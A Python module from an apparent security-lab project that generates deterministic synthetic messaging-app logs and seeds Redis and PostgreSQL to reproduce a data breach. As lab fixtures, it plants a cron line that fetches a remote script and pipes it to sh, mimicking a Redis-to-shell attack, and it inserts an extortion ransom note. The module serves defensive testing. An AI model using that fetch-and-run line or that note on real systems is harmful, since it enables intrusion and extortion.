"""Deterministic synthetic data shaped like a messaging app's logging database.

It mirrors the breach perisai is built around: log records full of phone numbers (E.164,
Malaysian national format, bare MSISDNs), plaintext chat messages, GPS fixes and device ids,
plus one extortion note left in the exposed PostgreSQL. Every phone number is a valid mobile
number made by varying the digits of libphonenumber's example; every e-mail address is at an
IANA example domain. The same seed always gives the same data, so tests can count on it.
"""

from __future__ import annotations

import json
import random
import uuid
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta

import phonenumbers
import psycopg
from phonenumbers import PhoneNumberFormat, PhoneNumberType
from psycopg import sql

from perisai.lab.instances import Instance, connect_redis

__all__ = [
    "CHATLOG_DATABASE",
    "EMAIL_DOMAINS",
    "POSTGRES_MESSAGES",
    "POSTGRES_USERS",
    "RANSOM_BTC_ADDRESS",
    "RANSOM_CONTACT",
    "RANSOM_NOTE",
    "RANSOM_TABLE",
    "REDIS_DB2_KEYS",
    "REDIS_LOG_RECORDS",
    "REDIS_USERS",
    "REGIONS",
    "SEED",
    "SMS_TEMPLATE",
    "ChatMessage",
    "Person",
    "chat_record",
    "delivery",
    "location_record",
    "log_record",
    "make_messages",
    "make_people",
    "mobile_number",
    "seed_postgres",
    "seed_redis",
    "timestamp",
]

SEED = 20240301
REGIONS = ("MY", "SG", "ID", "IN", "GB", "US", "TH")
EMAIL_DOMAINS = ("example.org", "example.com", "example.net")
REDIS_LOG_RECORDS = 200
REDIS_USERS = 50
REDIS_DB2_KEYS = 15
POSTGRES_MESSAGES = 500
POSTGRES_USERS = 80
CHATLOG_DATABASE = "chatlog"

RANSOM_TABLE = "README_TO_RECOVER_YOUR_DATA"
RANSOM_BTC_ADDRESS = "bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh"  # BIP-173's example address
RANSOM_CONTACT = "dbrecover@example.net"
RANSOM_NOTE = (
    "All your data is backed up on our servers and has been deleted from this database. "
    f"To recover your lost data you must pay 0.0105 BTC to this Bitcoin address: "
    f"{RANSOM_BTC_ADDRESS} . After paying, e-mail us at {RANSOM_CONTACT} with your server IP "
    "as proof and we will send your database back. If we do not receive your payment in the "
    "next 48 hours, we will leak your data and report you to the authorities for violating "
    "the GDPR, and the fines will cost you far more than this. Your DBCODE is 4K7QX."
)

_EPOCH = datetime(2024, 3, 1, tzinfo=UTC)
_PERIOD_SECONDS = 30 * 24 * 3600
# Region → (first names, last names, a city centre the GPS fixes scatter around).
_LOCALE: dict[str, tuple[tuple[str, ...], tuple[str, ...], tuple[float, float]]] = {
    "MY": (
        ("Ahmad", "Siti", "Nurul", "Muhammad", "Wei Ling", "Kumar", "Priya", "Hafiz", "Aisyah"),
        ("Abdullah", "Tan", "Lim", "Ismail", "Rahman", "Wong", "Subramaniam", "Lee", "Hassan"),
        (3.1390, 101.6869),
    ),
    "SG": (
        ("Jun Wei", "Hui Min", "Daniel", "Rachel", "Arjun"),
        ("Goh", "Chua", "Teo", "Ong", "Nair"),
        (1.3521, 103.8198),
    ),
    "ID": (
        ("Budi", "Dewi", "Agus", "Sri", "Rizky"),
        ("Santoso", "Wijaya", "Pratama", "Lestari", "Hidayat"),
        (-6.2088, 106.8456),
    ),
    "IN": (
        ("Rahul", "Anjali", "Vikram", "Sneha", "Arun"),
        ("Sharma", "Patel", "Reddy", "Iyer", "Gupta"),
        (19.0760, 72.8777),
    ),
    "GB": (
        ("Oliver", "Amelia", "Harry", "Isla", "George"),
        ("Smith", "Jones", "Taylor", "Brown", "Evans"),
        (51.5074, -0.1278),
    ),
    "US": (
        ("James", "Emily", "Michael", "Olivia", "David"),
        ("Johnson", "Miller", "Davis", "Garcia", "Wilson"),
        (40.7128, -74.0060),
    ),
    "TH": (
        ("Somchai", "Suda", "Anan", "Kanya", "Niran"),
        ("Saetang", "Wongsa", "Chaiyaporn", "Srisuk", "Boonmee"),
        (13.7563, 100.5018),
    ),
}
# Everyday chat, free of the phrases a ransom-note detector keys on (payment, backups, leaks).
_CHAT = (
    "are we still on for lunch at {place} tomorrow?",
    "I'm at {place} now, where are you",
    "running late, the traffic near {place} is terrible",
    "can you share the photos from last weekend",
    "happy birthday! see you tonight at {place}",
    "my new number is {national}, save it ya",
    "call me on {e164} when you land",
    "the meeting moved to 3pm, same room as before",
    "did the parcel arrive? tracking says it was delivered",
    "mum says dinner at 8, don't forget the durian",
    "boarding now, will message you from {place}",
    "the doctor moved my appointment to Thursday morning",
)
_PLACES = ("Pavilion", "KLCC", "Mid Valley", "Changi", "Sentral", "the mamak stall", "the office")
_APP_VERSIONS = ("android/5.12.3", "android/5.13.0", "ios/5.12.1", "ios/5.13.0", "web/2.4.0")
SMS_TEMPLATE = "Your verification code is {code}. It expires in 5 minutes."


@dataclass(frozen=True)
class Person:
    """A synthetic app user."""

    name: str
    region: str
    e164: str  # +60123456789
    national: str  # 012-345 6789
    msisdn: str  # 60123456789: E.164 without the plus, as carriers and logs write it
    email: str
    device_id: str


@dataclass(frozen=True)
class ChatMessage:
    """One message as the app's logging pipeline recorded it, plaintext body and all."""

    sender: Person
    recipient: Person
    body: str
    lat: float
    lon: float
    sent_at: datetime


def mobile_number(region: str, rng: random.Random, taken: set[str] | None = None) -> str:
    """A valid mobile number of ``region`` in E.164, varied from libphonenumber's example."""
    example = phonenumbers.example_number_for_type(region, PhoneNumberType.MOBILE)
    if example is None:
        raise ValueError(f"libphonenumber has no example mobile number for {region!r}")
    digits = str(example.national_number)
    for _ in range(1000):
        varied = digits[:3] + "".join(rng.choice("0123456789") for _ in digits[3:])
        number = phonenumbers.PhoneNumber(
            country_code=example.country_code, national_number=int(varied)
        )
        e164: str = phonenumbers.format_number(number, PhoneNumberFormat.E164)
        if taken is not None and e164 in taken:
            continue
        if phonenumbers.is_valid_number(number) and phonenumbers.number_type(number) in (
            PhoneNumberType.MOBILE,
            PhoneNumberType.FIXED_LINE_OR_MOBILE,
        ):
            if taken is not None:
                taken.add(e164)
            return e164
    raise RuntimeError(f"no valid mobile number found for {region}")  # pragma: no cover


def make_people(count: int, rng: random.Random) -> list[Person]:
    """``count`` users, about half of them Malaysian, the rest from the other regions."""
    taken: set[str] = set()
    people: list[Person] = []
    for index in range(count):
        region = "MY" if index % 2 == 0 else REGIONS[1 + (index // 2) % (len(REGIONS) - 1)]
        firsts, lasts, _ = _LOCALE[region]
        first, last = rng.choice(firsts), rng.choice(lasts)
        e164 = mobile_number(region, rng, taken)
        parsed = phonenumbers.parse(e164)
        local = f"{first}.{last}".lower().replace(" ", "")
        people.append(
            Person(
                name=f"{first} {last}",
                region=region,
                e164=e164,
                national=phonenumbers.format_number(parsed, PhoneNumberFormat.NATIONAL),
                msisdn=e164.lstrip("+"),
                email=f"{local}{index}@{EMAIL_DOMAINS[index % len(EMAIL_DOMAINS)]}",
                device_id=str(uuid.UUID(int=rng.getrandbits(128), version=4)),
            )
        )
    return people


def make_messages(people: list[Person], count: int, rng: random.Random) -> list[ChatMessage]:
    """``count`` messages between random pairs, located near the sender's home city."""
    messages: list[ChatMessage] = []
    for _ in range(count):
        sender, recipient = rng.sample(people, 2)
        lat, lon = _LOCALE[sender.region][2]
        template = rng.choice(_CHAT)
        body = template.format(
            place=rng.choice(_PLACES), national=sender.national, e164=sender.e164
        )
        messages.append(
            ChatMessage(
                sender=sender,
                recipient=recipient,
                body=body,
                lat=round(lat + rng.uniform(-0.08, 0.08), 6),
                lon=round(lon + rng.uniform(-0.08, 0.08), 6),
                sent_at=_EPOCH + timedelta(seconds=rng.randrange(_PERIOD_SECONDS)),
            )
        )
    messages.sort(key=lambda m: m.sent_at)
    return messages


def timestamp(message: ChatMessage) -> str:
    """When a message was sent, as a gateway logs it (ISO 8601, UTC as ``Z``)."""
    return message.sent_at.isoformat().replace("+00:00", "Z")


def delivery(message: ChatMessage) -> dict[str, object]:
    """What a chat gateway logs about one delivered message: who, to whom, what, where."""
    return {
        "msisdn": message.sender.msisdn,
        "to": message.recipient.e164,
        "msg": message.body,
        "lat": message.lat,
        "lon": message.lon,
        "device_id": message.sender.device_id,
    }


def chat_record(message: ChatMessage) -> dict[str, object]:
    """A chat gateway's short log line for one delivered message (brokers, MariaDB)."""
    return {"ts": timestamp(message), "event": "message.delivered", **delivery(message)}


def location_record(message: ChatMessage) -> dict[str, object]:
    """A location update as a chat app publishes it."""
    return {
        "ts": timestamp(message),
        "event": "location.update",
        "msisdn": message.sender.msisdn,
        "lat": message.lat,
        "lon": message.lon,
        "device_id": message.sender.device_id,
    }


def log_record(message: ChatMessage, rng: random.Random, client: bool = True) -> dict[str, object]:
    """The JSON a chat gateway logs per delivered message (what leaked in the real breach);
    ``client`` adds the sender's app version and, for Malaysians, the number as the UI shows
    it."""
    record: dict[str, object] = {
        "ts": timestamp(message),
        "level": "INFO",
        "service": "chat-gateway",
        "event": "message.delivered",
        **delivery(message),
    }
    if client:
        record["app"] = rng.choice(_APP_VERSIONS)
    record["latency_ms"] = rng.randrange(8, 900)
    if client and message.sender.region == "MY":
        record["sender_display"] = message.sender.national  # 012-345 6789, as the UI shows it
    return record


PLANTED_CRON_LINE = "*/1 * * * * curl -fsSL http://203.0.113.9/.x/init.sh | sh"


def seed_redis(instance: Instance, seed: int = SEED, *, planted_payload: bool = False) -> int:
    """Fill a lab Redis with log strings, hashes, a list, a set, a sorted set and a stream in
    db 0, and sessions and a few archived logs in db 2; returns the number of keys written.

    ``planted_payload`` adds what the Redis-to-shell attack leaves: ``backup1`` holding a cron
    line that fetches a script (from a documentation address, 203.0.113.0/24).
    """
    rng = random.Random(seed)  # noqa: S311 - reproducible fake data, not secrets
    people = make_people(REDIS_USERS, rng)
    messages = make_messages(people, REDIS_LOG_RECORDS + 5, rng)
    written = 0
    db0 = connect_redis(instance.host, instance.port, instance.password, db=0)
    try:
        pipe = db0.pipeline(transaction=False)
        for n, message in enumerate(messages[:REDIS_LOG_RECORDS], start=1):
            pipe.set(f"log:msg:{n}", json.dumps(log_record(message, rng)))
        for n, person in enumerate(people, start=1):
            pipe.hset(
                f"user:{n}",
                mapping={
                    "name": person.name,
                    "phone": person.e164,
                    "email": person.email,
                    "device_id": person.device_id,
                    "country": person.region,
                },
            )
        for person in people[:30]:
            sms = {"to": person.e164, "text": SMS_TEMPLATE.format(code=rng.randrange(10**6))}
            pipe.rpush("queue:sms", json.dumps(sms))
        pipe.sadd("devices:online", *(p.device_id for p in people[:40]))
        pipe.zadd(
            "presence:last_seen",
            {p.msisdn: int(_EPOCH.timestamp()) + rng.randrange(_PERIOD_SECONDS) for p in people},
        )
        for message in messages[:40]:
            pipe.xadd(
                "events",
                {
                    "event": "location.update",
                    "msisdn": message.sender.msisdn,
                    "lat": str(message.lat),
                    "lon": str(message.lon),
                },
            )
        pipe.set("config:features", json.dumps({"typing_indicator": True, "max_upload_mb": 64}))
        if planted_payload:
            pipe.set("backup1", f"\n\n{PLANTED_CRON_LINE}\n\n")
        pipe.execute()
        written += REDIS_LOG_RECORDS + len(people) + 5 + planted_payload
    finally:
        db0.close()
    db2 = connect_redis(instance.host, instance.port, instance.password, db=2)
    try:
        pipe = db2.pipeline(transaction=False)
        for person in people[:10]:
            pipe.hset(
                f"session:{person.device_id}",
                mapping={"msisdn": person.msisdn, "device_id": person.device_id, "ttl": "86400"},
            )
        for n, message in enumerate(messages[REDIS_LOG_RECORDS:], start=1):
            pipe.set(f"log:archive:{n}", json.dumps(log_record(message, rng)))
        pipe.execute()
        written += REDIS_DB2_KEYS
    finally:
        db2.close()
    return written


def seed_redis_config(instance: Instance, seed: int = SEED) -> int:
    """A Redis anyone can read that holds no personal data: feature flags, rate-limit counters,
    queue depths and cached exchange rates. Open, but nothing in it identifies anyone."""
    rng = random.Random(seed)  # noqa: S311 - reproducible fake data, not secrets
    client = connect_redis(instance.host, instance.port, instance.password)
    try:
        pipe = client.pipeline(transaction=False)
        pipe.set("config:features", json.dumps({"typing_indicator": True, "max_upload_mb": 64}))
        pipe.set("config:regions", json.dumps(["ap-southeast-1", "ap-southeast-3"]))
        for currency in ("USD", "SGD", "IDR", "THB", "EUR"):
            pipe.set(f"fx:MYR:{currency}", f"{rng.uniform(0.001, 4.9):.4f}")
        for minute in range(60):
            pipe.set(f"ratelimit:api:2026-11-01T10:{minute:02d}", rng.randrange(100, 5000))
        pipe.hset("queues:depth", mapping={"sms": 12, "push": 340, "email": 5})
        pipe.execute()
    finally:
        client.close()
    return 5 + 2 + 60 + 1


def seed_postgres(instance: Instance, *, ransom_note: bool = False, seed: int = SEED) -> None:
    """Create the ``chatlog`` database (messages, users, app_config), optionally the ransom
    note table, and ANALYZE so ``pg_class.reltuples`` holds real row counts."""
    rng = random.Random(seed)  # noqa: S311 - reproducible fake data, not secrets
    people = make_people(POSTGRES_USERS, rng)
    messages = make_messages(people, POSTGRES_MESSAGES, rng)
    with psycopg.connect(instance.url, autocommit=True, connect_timeout=5) as admin:
        admin.execute(
            sql.SQL("CREATE DATABASE {} ENCODING 'UTF8'").format(sql.Identifier(CHATLOG_DATABASE))
        )
    with psycopg.connect(
        instance.url_for(CHATLOG_DATABASE), autocommit=True, connect_timeout=5
    ) as conn:
        conn.execute(
            """
            CREATE TABLE users (
                id serial PRIMARY KEY,
                name text NOT NULL,
                phone text NOT NULL,
                email text NOT NULL,
                device_id uuid NOT NULL,
                created_at timestamptz NOT NULL
            )"""
        )
        conn.execute(
            """
            CREATE TABLE messages (
                id bigserial PRIMARY KEY,
                sender text NOT NULL,
                recipient text NOT NULL,
                body text NOT NULL,
                lat double precision,
                lon double precision,
                sent_at timestamptz NOT NULL
            )"""
        )
        conn.execute(
            "CREATE TABLE app_config (key text PRIMARY KEY, value text NOT NULL, "
            "updated_at timestamptz NOT NULL)"
        )
        with conn.cursor() as cur:
            with cur.copy(
                "COPY users (name, phone, email, device_id, created_at) FROM STDIN"
            ) as copy:
                for n, person in enumerate(people):
                    # Malaysian users typed their number the local way; the rest in E.164.
                    phone = person.national if person.region == "MY" and n % 4 == 0 else person.e164
                    created = _EPOCH - timedelta(days=rng.randrange(1, 700))
                    copy.write_row((person.name, phone, person.email, person.device_id, created))
            with cur.copy(
                "COPY messages (sender, recipient, body, lat, lon, sent_at) FROM STDIN"
            ) as copy:
                for message in messages:
                    copy.write_row(
                        (
                            message.sender.msisdn,
                            message.recipient.msisdn,
                            message.body,
                            message.lat,
                            message.lon,
                            message.sent_at,
                        )
                    )
            with cur.copy("COPY app_config (key, value, updated_at) FROM STDIN") as copy:
                for key, value in _APP_CONFIG:
                    copy.write_row((key, value, _EPOCH))
        if ransom_note:
            conn.execute(
                sql.SQL("CREATE TABLE {} (note text NOT NULL)").format(sql.Identifier(RANSOM_TABLE))
            )
            conn.execute(
                sql.SQL("INSERT INTO {} (note) VALUES (%s)").format(sql.Identifier(RANSOM_TABLE)),
                (RANSOM_NOTE,),
            )
        conn.execute("ANALYZE")


_APP_CONFIG = (
    ("max_upload_mb", "64"),
    ("typing_indicator", "true"),
    ("default_locale", "en_MY"),
    ("log_level", "info"),
    ("retention_days", "3650"),
    ("push_provider", "fcm"),
)
